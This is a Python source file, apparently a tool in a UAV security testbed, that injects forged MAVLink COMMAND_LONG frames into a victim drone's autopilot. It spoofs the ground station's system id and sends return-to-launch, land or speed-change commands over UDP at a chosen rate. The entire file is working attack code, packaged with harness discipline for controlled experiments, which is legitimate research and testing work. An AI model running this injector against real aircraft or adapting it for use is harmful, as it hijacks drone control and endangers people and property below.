"""The MAVLink command injector: forged COMMAND_LONG to a victim's autopilot, in the attacker's namespace.

It claims to be the victim's ground station: every frame carries the GCS's system id and
component id (MAV_COMP_ID_MISSIONPLANNER, 190) and targets the victim's autopilot (its sysid,
component 1), packed by pymavlink (MAVLink 2, unsigned: the attacker has no key). One command:
MAV_CMD_NAV_RETURN_TO_LAUNCH, MAV_CMD_NAV_LAND or MAV_CMD_DO_CHANGE_SPEED (param1 1 = ground
speed, param2 m/s, param3 -1 = throttle unchanged, as the ground station sends it), `--rate-hz`
times a second from one ephemeral UDP port to the victim's MAVLink port, until `--count` have
left (0: no limit; then it listens LINGER_S for the answers and exits) or it is stopped; the confirmation field counts
the repeats (0, 1, ...), as a GCS's resends do. What comes back (COMMAND_ACK) is read and logged, never acted on.

Discipline (as the flood's, `attacks/tools/flood.py`): the process is started before t0 (Python and
pymavlink take seconds to load on a busy host), binds its socket, prints `ready` and waits for
its go file; the executor notes the start time and then writes the file, so no forged frame
leaves before the logged start. SIGTERM ends it at once (`os._exit` in the handler, which runs
only between a send and its log line: SIGTERM is blocked around the pair), so when the process
has exited no frame can leave any more. Each frame sent is one JSON line of `--log` (t_unix,
seq, confirmation), each COMMAND_ACK that came back one `ack` line.

Run: python .../attacks/tools/mavinject.py --victim-ip IP --target-sysid N --gcs-sysid S
     --command rtl|land|speed [--speed-mps V] --rate-hz R --count N --go PATH --log PATH --seconds T
"""

from __future__ import annotations

import argparse
import json
import os
import select
import signal
import socket
import sys
import time
from pathlib import Path

from pymavlink.dialects.v20 import common as m

from uavcas.traffic.mavlink.specs import COMPONENT_AUTOPILOT, COMPONENT_GCS, UAV_PORT

READY = "ready"
GO_POLL_S = 0.001
LINGER_S = 2.0  # after a count-limited injector's last frame: time for its answers to come back


def command_message(m, command: str, target_sysid: int, confirmation: int, speed_mps: float):
    """The forged COMMAND_LONG (pymavlink message of dialect module `m`)."""
    if command == "speed":
        return m.MAVLink_command_long_message(target_sysid, COMPONENT_AUTOPILOT, m.MAV_CMD_DO_CHANGE_SPEED,
                                              confirmation, 1.0, float(speed_mps), -1.0, 0.0, 0.0, 0.0, 0.0)
    cmd = {"rtl": m.MAV_CMD_NAV_RETURN_TO_LAUNCH, "land": m.MAV_CMD_NAV_LAND}[command]
    return m.MAVLink_command_long_message(target_sysid, COMPONENT_AUTOPILOT, cmd, confirmation,
                                          0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0)


class _Datagrams:
    """pymavlink's `file`: each packed frame goes out as one datagram to the victim."""

    def __init__(self, sock: socket.socket, addr) -> None:
        self.sock, self.addr = sock, addr

    def write(self, buf: bytes) -> None:
        try:
            self.sock.sendto(buf, self.addr)
        except OSError:
            pass  # no route now: the frame is lost, as a radio's


def _wait_go(path: Path, deadline: float) -> bool:
    while time.time() < deadline:
        if path.exists():
            return True
        time.sleep(GO_POLL_S)
    return False


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="mavinject.py")
    ap.add_argument("--victim-ip", required=True)
    ap.add_argument("--port", type=int, default=UAV_PORT, help="the victim autopilot's UDP port")
    ap.add_argument("--target-sysid", type=int, required=True)
    ap.add_argument("--gcs-sysid", type=int, required=True, help="the system id claimed (the victim's GCS)")
    ap.add_argument("--command", choices=("rtl", "land", "speed"), required=True)
    ap.add_argument("--speed-mps", type=float, default=0.0)
    ap.add_argument("--rate-hz", type=float, required=True)
    ap.add_argument("--count", type=int, default=0, help="frames to send, 0: until stopped")
    ap.add_argument("--go", type=Path, required=True)
    ap.add_argument("--log", type=Path, required=True)
    ap.add_argument("--seconds", type=float, required=True, help="longest life, waiting included")
    a = ap.parse_args(argv)
    if a.rate_hz <= 0 or a.count < 0:
        print("mavinject: --rate-hz must be > 0 and --count >= 0", file=sys.stderr)
        return 2

    deadline = time.time() + a.seconds
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("0.0.0.0", 0))
    mav = m.MAVLink(_Datagrams(sock, (a.victim_ip, a.port)), srcSystem=a.gcs_sysid, srcComponent=COMPONENT_GCS)
    parser = m.MAVLink(None)
    parser.robust_parsing = True
    log = open(a.log, "a")
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))  # module docstring: stop at once
    print(READY, flush=True)
    if not _wait_go(a.go, deadline):
        return 1
    sent, k = 0, 0
    t_first = time.time()
    period = 1.0 / a.rate_hz
    while time.time() < deadline:
        # absolute deadlines: the rate holds whatever a wake-up's lateness; after the last frame,
        # listen LINGER_S for the answers to it
        done = a.count and sent >= a.count
        due = min(deadline, time.time() + LINGER_S) if done else t_first + k * period
        k += 1
        while (now := time.time()) < due:
            r, _, _ = select.select([sock], [], [], due - now)
            for _ in r:
                for msg in parser.parse_buffer(sock.recv(65535)) or []:
                    if msg.get_type() == "COMMAND_ACK":
                        log.write(json.dumps({"event": "ack", "t_unix": time.time(), "result": int(msg.result),
                                              "command": int(msg.command)}) + "\n")
                        log.flush()
        if done:
            break
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM})
        msg = command_message(m, a.command, a.target_sysid, sent % 256, a.speed_mps)
        mav.send(msg)
        sent += 1
        log.write(json.dumps({"event": "sent", "t_unix": time.time(), "seq": int(msg.get_seq()),
                              "confirmation": int(msg.confirmation)}) + "\n")
        log.flush()
        signal.pthread_sigmask(signal.SIG_UNBLOCK, {signal.SIGTERM})
    return 0


def read_log(path: Path) -> tuple[int, int]:
    """(frames sent, COMMAND_ACKs received) from an injector's log (a torn last line is skipped)."""
    sent = acks = 0
    try:
        text = Path(path).read_text()
    except FileNotFoundError:
        return 0, 0
    for line in text.splitlines():
        try:
            ev = json.loads(line).get("event")
        except json.JSONDecodeError:
            continue
        sent += ev == "sent"
        acks += ev == "ack"
    return sent, acks


if __name__ == "__main__":  # run by its path (uavcas.attacks.tools.tool_path)
    sys.exit(main())
